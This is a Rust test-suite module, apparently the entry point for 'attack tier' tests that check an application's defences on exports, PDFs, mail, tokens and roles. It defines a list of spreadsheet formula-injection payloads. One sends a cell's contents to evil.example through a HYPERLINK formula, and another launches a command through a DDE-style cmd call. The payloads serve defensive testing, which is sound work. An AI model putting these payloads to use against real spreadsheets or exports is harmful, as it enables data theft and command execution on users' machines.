//! The attack tiers: each module takes one surface and attacks it the way
//! a hostile customer, supplier feed or client would. `scripts/test` reports
//! each module as its own tier (`attack:exports`, `attack:pdfs`, …), and each
//! fails when its defence is taken away (the closing note of issue 30 shows
//! each failing once).

mod exhaustion;
mod exports;
mod labels;
mod mail;
mod pdfs;
mod roles;
mod tokens;

/// Text a customer, a supplier or the store may write anywhere, meant to
/// become something else downstream.
pub const FORMULAS: [&str; 4] = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"];
